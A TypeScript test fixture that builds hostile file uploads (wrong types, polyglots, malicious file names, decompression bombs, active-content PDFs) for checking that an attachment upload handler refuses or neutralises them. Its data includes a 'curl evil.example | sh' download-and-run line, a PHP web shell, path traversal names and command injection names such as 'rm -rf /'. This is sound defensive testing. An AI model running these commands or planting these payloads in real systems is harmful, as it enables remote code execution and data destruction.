import { gzipSync, deflateSync } from 'node:zlib'

import {
  aPdf,
  aZip,
  inserted,
  noise,
  patched,
  pngChunk,
  riff,
  riffChunk,
  samples,
} from './content/test-content.ts'

/** A hostile file, and what must become of it. */
export interface HostileFile {
  what: string
  name: string
  content: Buffer
  /** `refused`: 400, nothing stored. `harmless`: stored, with a safe name and type. `either` of the two. */
  fate: 'refused' | 'harmless' | 'either'
}

function file(what: string, name: string, content: Buffer, fate: HostileFile['fate']): HostileFile {
  return { what, name, content, fate }
}
const refused = (what: string, name: string, content: Buffer) => file(what, name, content, 'refused')
const harmless = (what: string, name: string, content: Buffer) => file(what, name, content, 'harmless')

/** Bytes given in hexadecimal, followed by noise. */
const hex = (digits: string) => Buffer.concat([Buffer.from(digits, 'hex'), noise(64)])
/** One byte per character. */
const latin1 = (characters: string) => Buffer.from(characters, 'latin1')

/** Beginnings of programs and of other formats. */
const OTHER_TYPES: Readonly<Record<string, Buffer>> = {
  exe: hex('4d5a90000300'),
  elf: hex('7f454c460201'),
  macho: hex('cffaedfe07'),
  class: hex('cafebabe0000'),
  wasm: hex('0061736d01000000'),
  zip: aZip(),
  docx: Buffer.concat([aZip(), noise(64)]),
  rar: hex('526172211a0700'),
  '7z': hex('377abcaf271c'),
  gz: gzipSync(noise(64)),
  bz2: hex('425a683931415926'),
  xz: hex('fd377a585a00'),
  cab: hex('4d53434600000000'),
  doc: hex('d0cf11e0a1b11ae1'),
  lnk: hex('4c0000000114020000'),
  sqlite: latin1('SQLite format 3\0'),
  gif: latin1('GIF89a\x01\0\x01\0\0\0\0;'),
  gifjs: latin1('GIF89a=1;alert(1)//'),
  bmp: hex('424d36000000'),
  tiff: hex('49492a0008000000'),
  ico: hex('00000100010010'),
  psd: hex('384250530001'),
  heic: latin1('\0\0\0\x18ftypheic\0\0\0\0'),
  avif: latin1('\0\0\0\x18ftypavif\0\0\0\0'),
  mp4: latin1('\0\0\0\x18ftypisom\0\0\0\0'),
  mp3: latin1('ID3\x04\0\0\0\0\0\0'),
  wav: riff('WAVE', riffChunk('fmt ', noise(16))),
  avi: riff('AVI ', riffChunk('LIST', noise(16))),
  ogg: latin1('OggS\0\x02'),
  swf: hex('43575309'),
  woff: latin1('wOFF\0\x01\0\0'),
  ps: latin1('%!PS-Adobe-3.0\n(%stdin) (r) file'),
  rtf: latin1('{\\rtf1\\ansi{\\object}}'),
  svg: latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  html: latin1('<!doctype html><script>alert(1)</script>'),
  xhtml: latin1('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
  php: latin1('<?php system($_GET["c"]); ?>'),
  sh: latin1('#!/bin/sh\ncurl evil.example | sh'),
  utf16: Buffer.from('\uFEFFhello', 'utf16le'),
  latin1: latin1('t\xe4iesti'),
  nul: latin1('text with \0 in it'),
  ansi: latin1('\x1b]0;evil\x07'),
}

const { 'image/png': png, 'image/jpeg': jpeg, 'image/webp': webp, 'application/pdf': pdf } = samples
const text = samples['text/plain']
const binary = { png, jpeg, webp, pdf }

function* wrongTypes(): Generator<HostileFile> {
  for (const [type, content] of Object.entries(OTHER_TYPES)) {
    yield refused(`${type} called a picture`, `holiday.${type}.png`, content)
    yield refused(`${type} called a text`, `notes.txt`, content)
  }
}

function* polyglots(): Generator<HostileFile> {
  const tails = {
    zip: aZip(),
    rar: hex('526172211a0700'),
    html: latin1('<html><script>alert(1)</script>'),
    exe: hex('4d5a90'),
  }
  for (const [kind, content] of Object.entries(binary)) {
    for (const [tail, more] of Object.entries(tails)) {
      const both = Buffer.concat([content, more])
      const isBearable = kind === 'pdf' && (tail === 'html' || tail === 'exe') // readers ignore what follows the end
      yield file(`${tail} behind ${kind}`, `a.${kind}`, both, isBearable ? 'harmless' : 'refused')
      yield refused(`${tail} before ${kind}`, `a.${kind}`, Buffer.concat([more, content]))
    }
    yield refused(`${kind} behind GIF`, 'a.gif', Buffer.concat([latin1('GIF89a/*'), content]))
  }
  const zip = aZip()
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, zip.length + 2]), zip])
  yield refused('zip in a chunk of PNG', 'a.png', inserted(png, 33, pngChunk('tEXt', zip)))
  yield refused('zip in a comment of JPEG', 'a.jpg', inserted(jpeg, 2, comment))
  yield refused('zip in a WebP', 'a.webp', riff('WEBP', webp.subarray(12), riffChunk('XMP ', zip)))
  yield refused('zip in a PDF', 'a.pdf', aPdf('', zip.toString('latin1')))
  const php = latin1('<?php system($_GET[0]); ?>')
  yield harmless('PHP in a chunk of PNG', 'a.php.png', inserted(png, 33, pngChunk('tEXt', php)))
}

const NAMES = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/cron.d/evil',
  'C:\\autoexec.bat',
  '\\\\server\\share\\a.png',
  'a.png\0.exe',
  'a.png%00.exe',
  'invoice.pdf.exe',
  'x.php.png',
  'x.png.php',
  'x.phtml;.png',
  'x.asp;.jpg',
  'evil\u202Egnp.exe',
  'a\r\nX-Evil: 1.png',
  '"; rm -rf /; ".png',
  '$(reboot).png',
  '`reboot`.png',
  '| mail evil.png',
  '<img src=x onerror=alert(1)>.png',
  "'; drop table attachment; --.png",
  'CON',
  'nul.png',
  'com1.txt',
  '.htaccess',
  '.env',
  '...',
  '-rf',
  '~/.bashrc',
  'a.png:evil.exe',
  'a.png. . .',
  '__proto__',
  'constructor',
  'x'.repeat(5_000),
  '\u200b\u200c\u200d',
  '{size}{name}',
]

function* names(): Generator<HostileFile> {
  for (const name of NAMES) yield harmless(`a picture called ${name.slice(0, 40)}`, name, png)
  for (const name of ['x.html', 'x.svg', 'x.js', 'x.bat']) yield harmless(`a text called ${name}`, name, text)
}

function* damaged(): Generator<HostileFile> {
  for (const [kind, content] of Object.entries(binary)) {
    for (const [index, random] of noise(12).entries()) {
      const cut = 16 + Math.floor(((content.length - 32) * (random + 1)) / 257)
      yield refused(`${kind} cut at ${cut} (${index})`, `a.${kind}`, content.subarray(0, cut))
    }
    for (const [index, random] of noise(10).entries()) {
      const at = Math.floor((content.length * random) / 256)
      const flipped = patched(content, at, [(content[at] ?? 0) ^ (1 << (index % 8))])
      yield file(`${kind} with a bit flipped at ${at}`, `a.${kind}`, flipped, 'either')
    }
  }
}

function* tooMuch(): Generator<HostileFile> {
  const bomb = deflateSync(Buffer.alloc(20_000_000))
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]))
  const sides = [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]
  const canvas = Buffer.concat([Buffer.alloc(4), Buffer.alloc(6, 0xff)])
  const hugeWebp = riff('WEBP', riffChunk('VP8X', canvas), webp.subarray(12))
  yield refused('a huge PNG', 'a.png', patched(png, 16, sides))
  yield refused('a huge JPEG', 'a.jpg', patched(jpeg, frame + 5, sides.slice(4)))
  yield refused('a huge WebP', 'a.webp', hugeWebp)
  yield refused('a PNG of 50 megapixels', 'a.png', patched(png, 16, [0, 0, 0x27, 0x10, 0, 0, 0x13, 0x88]))
  yield refused('a bomb as a text', 'a.txt', bomb)
  yield refused('a bomb as a packed text', 'a.txt', gzipSync(Buffer.alloc(20_000_000)))
  // The server unpacks neither of these; programs that open them have limits of their own.
  yield harmless('a bomb in a PNG', 'a.png', inserted(png, 33, pngChunk('zTXt', bomb)))
  yield harmless('a bomb in a PDF', 'a.pdf', aPdf('', bomb.toString('latin1')))
}

function* acting(): Generator<HostileFile> {
  for (const entry of [
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    '/AA << /O << /S /#4aavaScript /#4a#53 (x) >> >>',
    '/A << /S /Launch /F (calc.exe) >>',
    '/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >>',
    '/OpenAction 9 0 R',
    '/Type /Annot /Subtype /RichMedia',
  ])
    yield refused(`a PDF with ${entry}`, 'a.pdf', aPdf(entry))
  const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
  // A text like any other: scanning is the mail server's task, and what it refuses is sent without its files.
  yield harmless('EICAR', 'eicar.com', Buffer.from(eicar))
  for (const name of ['a.png', 'a.jpg', 'a.webp', 'a.pdf', 'a.txt'])
    yield refused(`nothing called ${name}`, name, Buffer.alloc(0))
}

/** All hostile files, more than two hundred, the same each time. */
export function hostileFiles(): readonly HostileFile[] {
  return [...wrongTypes(), ...polyglots(), ...names(), ...damaged(), ...tooMuch(), ...acting()]
}
